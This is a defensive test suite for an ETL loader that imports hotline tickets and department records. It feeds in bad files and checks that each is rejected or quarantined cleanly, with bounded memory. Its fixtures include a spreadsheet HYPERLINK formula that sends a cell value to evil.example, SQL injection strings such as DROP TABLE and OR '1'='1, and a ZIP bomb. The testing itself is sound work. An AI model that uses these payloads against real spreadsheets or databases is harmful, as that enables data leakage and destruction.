import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { recordFigures } from '../test/reliability/figures'
import { openTempWarehouse } from '../warehouse/testing'
import { headerRow } from './contract/forms'
import { type LoadResult, loadFile } from './load/load'
import {
  HOTLINE_HEADERS,
  writeHugeField,
  writeHugeJsonLine,
  writeLateGbk,
  writeTruncatedXlsx,
  writeWideFile,
  writeZipBomb,
} from './testing/corpus-large'
import { writeCsv } from './testing/files'

/**
 * The bad-input corpus: every file must end in a clear error (nothing loaded) or in
 * quarantine with a reason (the good rows loaded), leave no partial state, keep the
 * process up and its memory bounded.
 */

const CORPUS = path.join(import.meta.dirname, 'testing/corpus')
const MiB = 1 << 20

type Expect =
  | { rejected: RegExp }
  | {
      keys: string[]
      quarantined?: number
      reason?: RegExp
      check?: (r: LoadResult) => void | Promise<void>
    }

interface Case {
  name: string
  dataset?: 'hotline_tickets' | 'departments'
  file: () => string | Promise<string>
  expect: Expect
}

const corpus = (f: string) => () => path.join(CORPUS, f)

describe('bad-input corpus', () => {
  let t: Awaited<ReturnType<typeof openTempWarehouse>>
  const gen = fs.mkdtempSync(path.join(os.tmpdir(), 'etl-corpus-'))
  const figures: Array<{ case: string } & Record<string, string | number | boolean>> = []
  let baseline: { hotline_tickets: string[]; departments: string[] }

  const keysOf = async (dataset: 'hotline_tickets' | 'departments') => {
    const key = dataset === 'departments' ? 'dept_code' : 'ticket_id'
    const rows = await t.wh.rows<{ k: string }>(`SELECT ${key} AS k FROM ${dataset} FINAL ORDER BY k`)
    return rows.map((r) => r.k)
  }

  beforeAll(async () => {
    t = await openTempWarehouse('etl-corpus-')
    const base = path.join(gen, 'base.csv')
    writeCsv(base, HOTLINE_HEADERS, [['T0', '2024-01-01 09:00:00', '电话', '咨询', 'D01', '满意', null]])
    const depts = path.join(gen, 'depts.csv')
    writeCsv(depts, headerRow('departments', 'zh', { requiredOnly: true }), [['D01', '区数据局', '440306']])
    expect((await loadFile(t.wh, { dataset: 'hotline_tickets', file: base })).status).toBe('succeeded')
    expect((await loadFile(t.wh, { dataset: 'departments', file: depts })).status).toBe('succeeded')
    baseline = { hotline_tickets: await keysOf('hotline_tickets'), departments: await keysOf('departments') }
  })
  afterAll(async () => {
    recordFigures('bad-input', { suite: '坏输入语料 (bad-input corpus)', rows: figures })
    await t.dispose()
    fs.rmSync(gen, { recursive: true, force: true })
  })

  const cases: Case[] = [
    { name: 'empty file', file: corpus('empty.csv'), expect: { rejected: /文件为空/ } },
    { name: 'header only', file: corpus('header-only.csv'), expect: { rejected: /没有数据行/ } },
    {
      name: 'header, then blank lines',
      file: corpus('header-then-blank-lines.csv'),
      expect: { rejected: /没有数据行/ },
    },
    {
      name: 'UTF-8 BOM over GBK text',
      file: corpus('utf8-bom-but-gbk.csv'),
      expect: { rejected: /UTF-8.*GBK/ },
    },
    { name: 'UTF-16 text', file: corpus('utf16le.csv'), expect: { rejected: /UTF-16/ } },
    { name: 'binary under .csv', file: corpus('binary-as-csv.csv'), expect: { rejected: /二进制/ } },
    {
      name: 'ASCII for 1.5 MiB, then GBK',
      file: () => writeLateGbk(gen).file,
      expect: {
        keys: [],
        quarantined: 0,
        check: async (r) => {
          expect(r.accepted).toBeGreaterThan(17_000)
          const [g] = await t.wh.rows<{ channel: string }>(
            "SELECT channel FROM hotline_tickets FINAL WHERE ticket_id = 'TG9'",
          )
          expect(g?.channel, 'GBK rows after the first MiB decoded').toBe('phone')
        },
      },
    },
    {
      // Past the 4 MiB the reader checks up front: the engine finds it in the load's pass,
      // and the file is loaded again as GB18030.
      name: 'ASCII for 6 MiB, then GBK',
      file: () => writeLateGbk(gen, 6).file,
      expect: {
        keys: [],
        quarantined: 0,
        check: async (r) => {
          expect(r.accepted).toBeGreaterThan(60_000)
          const [g] = await t.wh.rows<{ channel: string }>(
            "SELECT channel FROM hotline_tickets FINAL WHERE ticket_id = 'TG9'",
          )
          expect(g?.channel, 'GBK rows after the first 4 MiB decoded').toBe('phone')
          // The next cases compare every key of the table: leave it as it was.
          await t.wh.command('DELETE FROM hotline_tickets WHERE _run_id = {run:String}', { run: r.runId })
        },
      },
    },
    {
      name: 'UTF-8 BOM, 6 MiB of ASCII, then GBK',
      file: () => writeLateGbk(gen, 6, true).file,
      expect: { rejected: /UTF-8.*GBK/ },
    },
    {
      name: 'mixed line endings (CRLF, LF, CR)',
      file: corpus('mixed-line-endings.csv'),
      expect: { keys: ['TM1', 'TM2', 'TM3', 'TM4'], quarantined: 0 },
    },
    {
      name: 'quoted newlines and quotes',
      file: corpus('quoted-newlines.csv'),
      expect: {
        keys: ['TQ1', 'TQ2\nsecond line', 'TQ3 "quoted" \r\n, comma', 'TQ4'],
        quarantined: 0,
      },
    },
    {
      name: 'formula-injection cells',
      file: corpus('formula-injection.csv'),
      expect: {
        // Stored as the text it is; exports neutralize it (web/server/export.test.ts).
        keys: ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', 'TF2', 'TF3'],
        quarantined: 1,
        reason: /诉求类型: '=1\+1' 不是有效取值/,
      },
    },
    {
      name: 'SQL-looking strings',
      file: corpus('sql-looking-strings.csv'),
      expect: {
        keys: [
          "TS1'); DROP TABLE hotline_tickets; --",
          'TS2 {run:String} {dataset:String}',
          "TS3' OR '1'='1",
          "TS4 \\' \\\\ \\x00 \\N",
        ],
        quarantined: 1,
        reason: /诉求类型: '投诉'; SELECT 1; --' 不是有效取值/,
      },
    },
    {
      name: 'dates far in the past and future',
      file: corpus('far-dates.csv'),
      expect: { keys: ['TD9'], quarantined: 8, reason: /不是有效的日期时间/ },
    },
    {
      name: 'duplicate keys within the file',
      file: corpus('duplicate-keys.csv'),
      expect: { keys: ['TK1', 'TK2'], quarantined: 0 },
    },
    {
      name: 'JSON Lines with broken lines',
      file: corpus('broken-lines.jsonl'),
      expect: { keys: ['TJ1', 'TJ4'], quarantined: 5, reason: /不是有效的JSON|不是JSON对象/ },
    },
    {
      name: 'JSON Lines with a 20 MB line',
      file: () => writeHugeJsonLine(gen),
      expect: { keys: ['TH1', 'TH3'], quarantined: 1, reason: /过长/ },
    },
    {
      name: 'password-protected XLSX',
      file: corpus('password-protected.xlsx'),
      expect: { rejected: /加密/ },
    },
    {
      name: 'XLSX cut in half',
      file: async () => (await writeTruncatedXlsx(gen)).cuts[0]!,
      expect: { rejected: /不完整/ },
    },
    {
      name: 'XLSX cut before its directory',
      file: async () => (await writeTruncatedXlsx(gen)).cuts[1]!,
      expect: { rejected: /不完整/ },
    },
    {
      name: 'ZIP bomb as XLSX (1 GiB inflated)',
      file: () => writeZipBomb(gen, 1),
      expect: { rejected: /压缩炸弹/ },
    },
    {
      name: 'a 10 MB field',
      dataset: 'departments',
      file: () => writeHugeField(gen),
      expect: {
        keys: ['DH1', 'DH3', 'DH4'],
        quarantined: 1,
        reason: /部门名称: .*超过/,
        check: (r) => expect(r.ignoredColumns).toEqual(['备注']),
      },
    },
    {
      name: '12,000 columns',
      file: () => writeWideFile(gen, 12_000, 5),
      expect: { rejected: /列数过多/ },
    },
    {
      name: '5,000 columns',
      file: () => writeWideFile(gen),
      expect: {
        keys: Array.from({ length: 200 }, (_, i) => `TW${i}`).sort(),
        quarantined: 0,
        check: (r) => expect(r.ignoredColumns.length).toBeGreaterThan(0),
      },
    },
  ]

  for (const c of cases) {
    it(c.name, async () => {
      const dataset = c.dataset ?? 'hotline_tickets'
      const file = await c.file()
      const before = await keysOf(dataset)
      let peak = process.memoryUsage().rss
      const sampler = setInterval(() => {
        peak = Math.max(peak, process.memoryUsage().rss)
      }, 20)
      const startRss = process.memoryUsage().rss
      const started = Date.now()
      const r = await loadFile(t.wh, { dataset, file }).finally(() => clearInterval(sampler))
      const seconds = (Date.now() - started) / 1000
      const after = await keysOf(dataset)
      const e = c.expect
      if ('rejected' in e) {
        expect(r.status, r.error).toBe('failed')
        expect(r.error).toMatch(e.rejected)
        expect(after, 'nothing loaded').toEqual(before)
      } else {
        expect(r.status, r.error).toBe('succeeded')
        const added = after.filter((k) => !before.includes(k))
        if (e.keys.length) expect(added.sort()).toEqual([...e.keys].sort())
        if (e.quarantined !== undefined) expect(r.rejected).toBe(e.quarantined)
        if (e.reason) {
          const q = await t.wh.rows<{ reason: string; n: string }>(
            'SELECT reason, length(raw_row) AS n FROM quarantine WHERE run_id = {run:String}',
            { run: r.runId },
          )
          expect(q.map((x) => x.reason).join('\n')).toMatch(e.reason)
          for (const x of q) expect(Number(x.n), 'quarantined raw rows are bounded').toBeLessThan(MiB)
        }
        await e.check?.(r)
      }
      // Nothing half-done stays behind: no staging, shadow or view tables.
      const leftovers = await t.wh.rows("SELECT name FROM system.tables WHERE startsWith(name, '_')")
      expect(leftovers).toEqual([])
      figures.push({
        case: c.name,
        outcome: r.status === 'failed' ? 'rejected' : r.rejected ? 'loaded + quarantine' : 'loaded',
        accepted: r.accepted,
        quarantined: r.rejected,
        seconds: Number(seconds.toFixed(2)),
        file_mb: Number((fs.statSync(file).size / MiB).toFixed(2)),
        peak_rss_mb: Math.round(peak / MiB),
        rss_growth_mb: Math.round((peak - startRss) / MiB),
        message: (r.error ?? '').slice(0, 80),
      })
      // Memory bounded: no file may make the process grow by more than 512 MiB.
      expect(peak - startRss).toBeLessThan(512 * MiB)
    })
  }

  it('the process is still up and loads a good file afterwards; earlier data intact', async () => {
    expect(await keysOf('departments')).toEqual(expect.arrayContaining(baseline.departments))
    expect(await keysOf('hotline_tickets')).toEqual(expect.arrayContaining(baseline.hotline_tickets))
    const good = path.join(gen, 'good.csv')
    writeCsv(good, HOTLINE_HEADERS, [['TZ1', '2024-05-01 09:00:00', '网站', '建议', 'D01', null, null]])
    const r = await loadFile(t.wh, { dataset: 'hotline_tickets', file: good })
    expect(r).toMatchObject({ status: 'succeeded', accepted: 1, rejected: 0 })
  })
})
